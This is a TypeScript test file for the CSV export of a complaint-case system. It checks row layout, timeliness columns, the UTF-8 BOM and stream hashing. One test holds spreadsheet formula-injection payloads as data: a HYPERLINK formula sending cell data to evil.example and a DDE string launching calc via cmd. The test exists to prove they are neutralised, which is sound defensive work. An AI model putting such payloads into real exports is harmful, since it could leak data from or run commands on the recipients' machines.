import { Readable, Writable } from 'node:stream';
import { pipeline } from 'node:stream/promises';
import { expect } from 'chai';
import { parse } from 'csv-parse/sync';
import { GENESIS_HASH, sealEntry } from '../../../server/cases/timeline.ts';
import type { ExportedCase } from '../../../server/exports/document.ts';
import {
  CSV_COLUMNS,
  DigestStream,
  csvEncoder,
  csvRows,
} from '../../../server/exports/encoders.ts';

function exportedCase(overrides: Partial<ExportedCase> = {}): ExportedCase {
  const first = sealEntry(GENESIS_HASH, {
    seq: 1,
    at: '2026-11-02T09:00:00.000Z',
    type: 'FILED',
    actor: { id: 'u1', role: 'complainant' },
    fromState: null,
    toState: 'filed',
    data: { reference: 'RD-2026-000001', amount: { amountMinor: 129900, currency: 'CNY' } },
  });
  const second = sealEntry(first.hash, {
    seq: 2,
    at: '2026-11-02T10:00:00.000Z',
    type: 'TRIAGE_ACCEPT',
    actor: { id: 'o1', role: 'officer' },
    fromState: 'filed',
    toState: 'platformReview.investigating',
    data: {},
  });
  return {
    exportVersion: 1,
    id: '65f000000000000000000001',
    reference: 'RD-2026-000001',
    state: 'platformReview.investigating',
    version: 2,
    machineVersion: 1,
    category: 'unauthorized_transaction',
    urgent: true,
    jurisdiction: 'CN',
    consumerBody: '12315',
    locale: 'zh-CN',
    channel: 'web',
    respondent: { name: '某某支付', kind: 'platform' },
    transaction: {
      occurredAt: '2026-11-01T10:00:00.000Z',
      amount: { amountMinor: 129900, currency: 'CNY' },
    },
    narrative: '我的账户被扣款, "1299" 元\n第二行',
    desiredOutcome: '退款',
    ownerId: 'u1',
    filedById: 'u1',
    assigneeId: null,
    overdue: false,
    deadlines: [],
    outcome: {
      response: null,
      responseRejected: false,
      holdingResponse: false,
      bodyReference: null,
      bodyDecision: null,
      legalOutcome: null,
    },
    filedAt: '2026-11-02T09:00:00.000Z',
    updatedAt: '2026-11-02T10:00:00.000Z',
    evidenceCount: 0,
    timeliness: {
      timely: null,
      acknowledged: {
        status: 'met',
        dueAt: '2026-11-03T09:00:00.000Z',
        settledAt: '2026-11-02T10:00:00.000Z',
      },
      answered: { status: 'running', dueAt: '2026-11-23T10:00:00.000Z', settledAt: null },
      consumerBody: '12315',
      bodyClocks: [],
    },
    lastHash: second.hash,
    timeline: [first, second],
    evidence: [],
    notifications: [],
    ...overrides,
  };
}

async function encode(cases: ExportedCase[]): Promise<string> {
  const chunks: Buffer[] = [];
  const sink = new Writable({
    write(chunk: Buffer, _encoding, done) {
      chunks.push(chunk);
      done();
    },
  });
  await pipeline([Readable.from(cases), ...csvEncoder(), sink]);
  return Buffer.concat(chunks).toString('utf8');
}

describe('CSV export encoding', () => {
  it('writes one row per timeline entry with the case columns repeated', async () => {
    const text = await encode([exportedCase()]);
    const rows = parse(text, { columns: true, bom: true }) as Record<string, string>[];
    expect(rows).to.have.length(2);
    expect(Object.keys(rows[0]!)).to.deep.equal([...CSV_COLUMNS]);
    expect(rows.map((r) => r.reference)).to.deep.equal(['RD-2026-000001', 'RD-2026-000001']);
    expect(rows.map((r) => r.entry_type)).to.deep.equal(['FILED', 'TRIAGE_ACCEPT']);
    expect(rows[0]!.urgent).to.equal('true');
    expect(rows[1]!.overdue).to.equal('false');
    // Quoting is the library's: commas, quotes and newlines survive a round trip.
    expect(rows[0]!.narrative).to.equal('我的账户被扣款, "1299" 元\n第二行');
    expect(JSON.parse(rows[0]!.entry_data!)).to.deep.equal({
      amount: { amountMinor: 129900, currency: 'CNY' },
      reference: 'RD-2026-000001',
    });
  });

  it('carries the timely-response verdict and the body clocks on every row of the case', async () => {
    const clock = {
      key: 'acceptance' as const,
      from: 'escalated' as const,
      status: 'running' as const,
      startsAt: '2026-11-02T09:00:00.000Z',
      dueAt: '2026-11-11T09:00:00.000Z',
      stoppedAt: null,
      projected: false,
      duration: { amount: 7, unit: 'workingDays' as const },
      source: 'art. 14',
    };
    const base = exportedCase();
    const open = parse(await encode([base]), { columns: true, bom: true }) as Record<
      string,
      string
    >[];
    expect(open.map((r) => r.timely)).to.deep.equal(['', '']);
    const late = exportedCase({
      timeliness: { ...base.timeliness, timely: false, bodyClocks: [clock] },
    });
    const rows = parse(await encode([late]), { columns: true, bom: true }) as Record<
      string,
      string
    >[];
    expect(rows.map((r) => r.timely)).to.deep.equal(['false', 'false']);
    expect(JSON.parse(rows[0]!.body_clocks!)).to.deep.equal([
      { dueAt: '2026-11-11T09:00:00.000Z', key: 'acceptance', status: 'running' },
    ]);
  });

  it('starts with a UTF-8 byte order mark so spreadsheet apps read Chinese correctly', async () => {
    const text = await encode([exportedCase()]);
    expect(text.charCodeAt(0)).to.equal(0xfeff);
  });

  it('neutralises cells a spreadsheet would run as a formula', async () => {
    const hostile = exportedCase({
      narrative: '=HYPERLINK("http://evil.example/?d="&A1,"click")',
      desiredOutcome: '+1+cmd|" /C calc"!A0',
      respondent: { name: '@SUM(1+1)', kind: 'merchant' },
      transaction: {
        occurredAt: '2026-11-01T10:00:00.000Z',
        reference: '-2+3',
        amount: { amountMinor: 100, currency: 'CNY' },
      },
    });
    const tab = exportedCase({ id: '65f000000000000000000002', narrative: '\t=1+1' });
    const carriageReturn = exportedCase({ id: '65f000000000000000000003', narrative: '\r=1+1' });
    const fullWidth = exportedCase({ id: '65f000000000000000000004', narrative: '＝1+1' });
    const rows = parse(await encode([hostile, tab, carriageReturn, fullWidth]), {
      columns: true,
      bom: true,
    }) as Record<string, string>[];
    expect(rows[0]!.narrative).to.equal(`'=HYPERLINK("http://evil.example/?d="&A1,"click")`);
    expect(rows[0]!.desired_outcome).to.equal(`'+1+cmd|" /C calc"!A0`);
    expect(rows[0]!.respondent_name).to.equal(`'@SUM(1+1)`);
    expect(rows[0]!.transaction_reference).to.equal(`'-2+3`);
    expect(rows[2]!.narrative).to.equal(`'\t=1+1`);
    expect(rows[4]!.narrative).to.equal(`'\r=1+1`);
    expect(rows[6]!.narrative).to.equal(`'＝1+1`);
    // Numbers are data, not text a spreadsheet would evaluate: they stay as they are.
    expect(rows[0]!.amount_minor).to.equal('100');
  });

  it('leaves ordinary text alone', () => {
    const rows = csvRows(exportedCase({ narrative: 'Charged twice = bad; a-b @ noon' }));
    expect(rows[0]!.narrative).to.equal('Charged twice = bad; a-b @ noon');
  });

  it('keeps a case without timeline entries as one row with empty entry cells', () => {
    const rows = csvRows(exportedCase({ timeline: [] }));
    expect(rows).to.have.length(1);
    expect(rows[0]!.entry_seq).to.equal(null);
    expect(rows[0]!.reference).to.equal('RD-2026-000001');
  });

  it('hashes exactly the bytes that pass through', async () => {
    const digest = new DigestStream();
    const out: Buffer[] = [];
    const sink = new Writable({
      write(chunk: Buffer, _encoding, done) {
        out.push(chunk);
        done();
      },
    });
    await pipeline([Readable.from([Buffer.from('abc'), Buffer.from('def')]), digest, sink]);
    expect(Buffer.concat(out).toString()).to.equal('abcdef');
    expect(digest.bytes).to.equal(6);
    expect(digest.digest()).to.equal(
      'bef57ec7f53a6d40beb640a780a639c83bc29ac8a9816f1fc6c5c6dcd93c4721',
    );
  });
});
